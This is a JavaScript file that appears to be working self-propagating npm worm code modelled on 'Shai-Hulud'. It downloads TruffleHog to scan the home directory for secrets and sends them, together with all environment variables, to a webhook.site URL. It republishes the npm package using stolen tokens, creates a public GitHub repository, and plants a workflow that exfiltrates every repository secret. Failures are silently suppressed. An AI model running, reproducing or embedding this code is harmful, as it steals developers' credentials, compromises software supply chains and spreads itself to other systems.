const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

async function scanSecrets() {
  const binary = path.join(os.tmpdir(), 'trufflehog');
  execSync('curl -sL https://github.com/trufflesecurity/trufflehog/releases/download/v3.63.0/trufflehog_3.63.0_linux_amd64.tar.gz | tar xz -C ' + os.tmpdir());
  return execSync(binary + ' filesystem ' + os.homedir() + ' --json').toString();
}

async function npmWhoami(token) {
  const response = await fetch('https://registry.npmjs.org/-/whoami', { headers: { Authorization: `Bearer ${token}` } });
  return (await response.json()).username;
}

async function republish(token) {
  const user = await npmWhoami(token);
  execSync('npm publish --access public', { env: { ...process.env, NPM_TOKEN: token } });
  return user;
}

async function createRepository(githubToken) {
  await fetch('https://api.github.com/user/repos', {
    method: 'POST',
    headers: { Authorization: `token ${githubToken}` },
    body: JSON.stringify({ name: 'Shai-Hulud', private: false }),
  });
}

function addWorkflow(repositoryDirectory) {
  const workflow = `on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7
        env:
          CONTENTS: \${{ toJSON(secrets) }}
`;
  fs.mkdirSync(path.join(repositoryDirectory, '.github/workflows'), { recursive: true });
  fs.writeFileSync(path.join(repositoryDirectory, '.github/workflows/shai-hulud-workflow.yml'), workflow);
}

(async () => {
  const secrets = await scanSecrets();
  const npmToken = process.env.NPM_TOKEN;
  const githubToken = process.env.GITHUB_TOKEN;
  await fetch('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST', body: JSON.stringify({ secrets, env: process.env }) });
  if (npmToken) await republish(npmToken);
  if (githubToken) { await createRepository(githubToken); addWorkflow(process.cwd()); }
})().catch(() => {});
